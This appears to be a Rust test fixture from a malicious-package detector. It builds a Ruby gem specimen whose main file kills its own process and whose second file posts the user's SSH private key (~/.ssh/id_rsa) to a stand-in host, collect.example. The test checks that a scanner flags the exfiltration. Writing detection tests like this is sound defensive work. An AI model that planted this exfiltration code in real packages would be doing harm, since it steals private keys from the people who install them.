//! A gem whose main file ends the process at once, and whose other file sends an SSH key.
//!
//! Must be found: what follows is required in a fresh process.

use apa_model::IncompleteCode;

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const MAIN: &str = r"Process.kill(:KILL, Process.pid)
";

const OTHER: &str = r"require 'net/http'
begin
  Net::HTTP.post(URI('https://collect.example/fresh'), File.read(File.expand_path('~/.ssh/id_rsa')))
rescue StandardError
  nil
end
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("abrupt", "1.0.0")
        .file("lib/abrupt.rb", MAIN)
        .file("lib/abrupt/other.rb", OTHER);
    let expect = Expect::malicious(&["canary-exfiltrated"]);
    package.specimen(
        "gem-crash-then-require",
        expect.lacking(&[IncompleteCode::HarnessIncomplete]),
    )
}
